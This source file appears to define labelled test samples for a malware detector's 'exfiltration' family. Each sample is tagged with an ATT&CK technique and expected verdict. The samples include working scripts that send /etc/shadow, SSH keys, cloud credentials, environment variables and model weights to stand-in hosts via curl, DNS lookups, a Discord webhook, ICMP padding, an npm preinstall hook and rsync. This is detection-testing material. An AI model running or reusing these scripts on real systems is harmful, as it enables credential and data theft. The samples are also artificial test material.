import { base64 } from './bytes.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('exfiltration', [
  {
    id: 'exfiltration-tar-curl',
    level: 'easy',
    technique: 'Folders of the host packed and posted (T1560.001, T1048).',
    files: {
      'run.sh':
        '#!/bin/sh\ntar czf - /host/home /host/etc/shadow /host/root/.ssh 2>/dev/null | curl -s -T - http://203.0.113.200/up/$(hostname).tgz\n',
    },
    config: { Cmd: ['/run.sh'] },
    expect: 'malicious',
    where: 'run.sh',
  },
  {
    id: 'exfiltration-dns',
    level: 'ordinary',
    technique: 'Data as labels of names that are looked up (T1048.003).',
    files: {
      'usr/bin/probe': `#!/bin/bash
for w in $(xxd -p -c 30 /etc/shadow); do dig +short $w.$RANDOM.d.example.invalid @192.0.2.53 >/dev/null; done
`,
    },
    expect: 'malicious',
    where: 'usr/bin/probe',
  },
  {
    id: 'exfiltration-discord',
    level: 'ordinary',
    technique: 'A webhook of a chat service takes files (T1567.004).',
    files: {
      'app/report.py': `import glob, os, requests
W = "https://discord.com/api/webhooks/000000000000000000/${'A'.repeat(68)}"
for p in glob.glob(os.path.expanduser("~/.ssh/*")) + glob.glob("/root/.aws/*") + ["/etc/passwd"]:
    requests.post(W, files={"file": open(p, "rb")}, data={"content": os.uname().nodename})
`,
    },
    expect: 'malicious',
    where: 'app/report.py',
  },
  {
    id: 'exfiltration-dependency-confusion',
    level: 'ordinary',
    technique:
      'Name, user, folder and environment of the machine by DNS at install (dependency confusion, Birsan 2021).',
    files: {
      'app/node_modules/internal-ui/package.json':
        '{"name":"internal-ui","version":"99.9.9","scripts":{"preinstall":"node index.js"}}\n',
      'app/node_modules/internal-ui/index.js': `const os = require('os'), dns = require('dns'), q = require('https');
const d = JSON.stringify({ p: __dirname, h: os.homedir(), n: os.hostname(), u: os.userInfo().username, s: dns.getServers(), e: process.env });
q.request({ hostname: 'abcdef.oast.example.invalid', method: 'POST', headers: { 'Content-Length': d.length } }).end(d);
`,
    },
    expect: 'malicious',
    where: 'app/node_modules/internal-ui/index.js',
  },
  {
    id: 'exfiltration-icmp',
    level: 'hard',
    technique: 'Data in the padding of pings (T1048.003, T1095).',
    files: {
      'usr/local/bin/netcheck':
        '#!/bin/sh\nxxd -p -c 16 /root/.ssh/id_ed25519 | while read h; do ping -c1 -p $h 198.51.100.250 >/dev/null; done\n',
    },
    expect: 'malicious',
    where: 'usr/local/bin/netcheck',
  },
  {
    id: 'exfiltration-model-weights',
    level: 'hard',
    technique:
      'Weights and prompts of others on the same machine are copied out (ShadowRay, Oligo 2024; T1530).',
    files: {
      'srv/ray_job.py': `import base64, os, pathlib, subprocess
dst = base64.b64decode("${base64('rsync://192.0.2.150/drop')}").decode()
for p in pathlib.Path("/proc").glob("[0-9]*/root/models"):
    subprocess.Popen(["rsync", "-az", str(p), dst + "/" + os.uname().nodename])
subprocess.run("env | grep -iE 'OPENAI|HF_TOKEN|STRIPE|SLACK' | base64 -w0 | xargs -I{} curl -s http://192.0.2.150/e?{}", shell=True)
`,
    },
    expect: 'malicious',
    where: 'srv/ray_job.py',
  },
]);
